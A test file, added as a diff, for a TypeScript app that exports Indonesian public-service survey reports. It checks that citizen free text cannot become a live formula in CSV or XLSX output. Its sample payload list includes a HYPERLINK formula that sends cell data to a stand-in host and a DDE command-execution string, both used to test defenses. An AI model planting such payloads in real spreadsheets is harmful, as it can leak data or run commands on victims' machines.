@@ -1,0 +1,124 @@
+import fc from 'fast-check';
+import { describe, expect, it } from 'vitest';
+import { loadLanguage } from '$lib/i18n/table';
+import { parseCsv } from '$lib/import/table/csv';
+import { FORMULA_START } from '$lib/import/table/xlsx-write';
+import { skmFile, skmCsv } from '$lib/report/files';
+import { safeCsvText } from '$lib/import/table/csv-export';
+import { xlsxWorkbook, csvTable } from '$lib/report/sheet';
+import { buildSkmUnitReport } from '$lib/report/skm-model';
+import { bacaLembar, xmlGaya, xmlLembar } from '../../fixtures/baca-xlsx';
+import { DIBUAT, inputSkm } from './demo';
+
+// The app loads the whole Indonesian table before a report is built (state/laporan.ts).
+await loadLanguage('id');
+
+/** What spreadsheet users have seen attackers type into free-text fields. */
+const SERANGAN = [
+	'=HYPERLINK("http://contoh.invalid?x="&A1,"Klik")',
+	'+62 812 (nomor saya)',
+	'-2+3',
+	"@SUM(1+1)*cmd|' /C calc'!A0",
+	'\t=1+1',
+	'\r=1+1',
+	'  =1+1',
+	'＝1+1'
+];
+
+const bacaCsv = (teks: string) => parseCsv(teks).rows.map((r) => r.cells);
+
+describe('formula injection from free text', () => {
+	it('gets an apostrophe in CSV, so Excel shows the text instead of running it', () => {
+		for (const s of SERANGAN) {
+			expect(safeCsvText(s)).toBe(`'${s}`);
+			expect(FORMULA_START.test(safeCsvText(s))).toBe(false);
+		}
+		expect(safeCsvText('Antrean lama - mohon ditambah')).toBe('Antrean lama - mohon ditambah');
+	});
+
+	it('stays text in XLSX, unchanged, with the quote prefix Excel keeps when the cell is edited', () => {
+		const isi = xlsxWorkbook([
+			{ nama: 'Saran', kolom: ['saran'], baris: SERANGAN.map((s) => [s]) }
+		]);
+		const lembar = bacaLembar(isi, 'Saran');
+		expect(lembar.rows.map((r) => r.cells[0])).toEqual(SERANGAN);
+		const [xml] = xmlLembar(isi);
+		expect(xml).not.toMatch(/<f[\s>]/);
+		const gaya = /s="(\d+)"[^>]*t="inlineStr"/.exec(xml!.split('<row r="2">')[1]!)?.[1];
+		const xfs = xmlGaya(isi)
+			.split('<cellXfs')[1]!
+			.match(/<xf [^>]*\/>/g)!;
+		expect(xfs[Number(gaya)]).toContain('quotePrefix="1"');
+	});
+
+	it('is neutralised in a real report: a citizen’s saran that starts with = or @', () => {
+		const input = inputSkm('2026-TW2');
+		const target = input.responses.find((r) => r.saran)!;
+		const responses = input.responses.map((r, i) =>
+			r.unitId === target.unitId && i % 2 === 0 ? { ...r, saran: SERANGAN[i % SERANGAN.length] } : r
+		);
+		const laporan = buildSkmUnitReport({ ...input, responses }, target.unitId)!;
+		const ditulis = laporan.unit[0]!.saran.map((s) => s.teks);
+		expect(ditulis.some((s) => FORMULA_START.test(s))).toBe(true);
+
+		const xlsx = skmFile(laporan, 'xlsx', { locale: 'id', dibuat: DIBUAT }).isi;
+		const saran = bacaLembar(xlsx, 'Saran');
+		expect(saran.rows.map((r) => r.cells[saran.kolom('Saran')])).toEqual(ditulis);
+		for (const xml of xmlLembar(xlsx)) expect(xml).not.toMatch(/<f[\s>]/);
+	});
+
+	it('any text survives the CSV round trip and never starts a formula', () => {
+		fc.assert(
+			fc.property(
+				fc.array(fc.string({ unit: 'grapheme', maxLength: 30 }), { minLength: 1, maxLength: 6 }),
+				(teks) => {
+					const csv = csvTable({
+						nama: 'x',
+						kolom: ['a', 'b'],
+						baris: teks.map((t) => [t, 'akhir'])
+					});
+					const baris = bacaCsv(csv);
+					expect(baris).toHaveLength(teks.length);
+					baris.forEach((cells, i) => {
+						const asli = teks[i]!;
+						expect(FORMULA_START.test(cells[0]!)).toBe(false);
+						expect(cells[0]).toBe(FORMULA_START.test(asli) ? `'${asli}` : asli);
+					});
+				}
+			)
+		);
+	});
+
+	it('any text survives the XLSX round trip unchanged, never as a formula', () => {
+		fc.assert(
+			fc.property(
+				fc.array(fc.string({ unit: 'grapheme', maxLength: 30 }), { minLength: 1, maxLength: 6 }),
+				(teks) => {
+					const isi = xlsxWorkbook([
+						{ nama: 'x', kolom: ['a', 'b'], baris: teks.map((t) => [t, 'akhir']) }
+					]);
+					const lembar = bacaLembar(isi, 'x');
+					expect(lembar.rows.map((r) => r.cells[0])).toEqual(teks.map((t) => t));
+					expect(xmlLembar(isi)[0]).not.toMatch(/<f[\s>]/);
+				}
+			),
+			{ numRuns: 60 }
+		);
+	});
+
+	it('leaves numbers as numbers, negative ones too', () => {
+		const csv = csvTable({
+			nama: 'x',
+			kolom: ['gerak', 'indeks'],
+			baris: [
+				[
+					{ angka: -2, format: 'bulat' },
+					{ angka: 84.27, format: 'desimal2' }
+				]
+			]
+		});
+		expect(bacaCsv(csv)).toEqual([['-2', '84,27']]);
+		const isi = skmCsv(buildSkmUnitReport(inputSkm('2026-TW2'), 'demo-dinkes')!, 'id').isi;
+		expect(new TextDecoder().decode(isi)).not.toMatch(/;'-?\d/);
+	});
+});
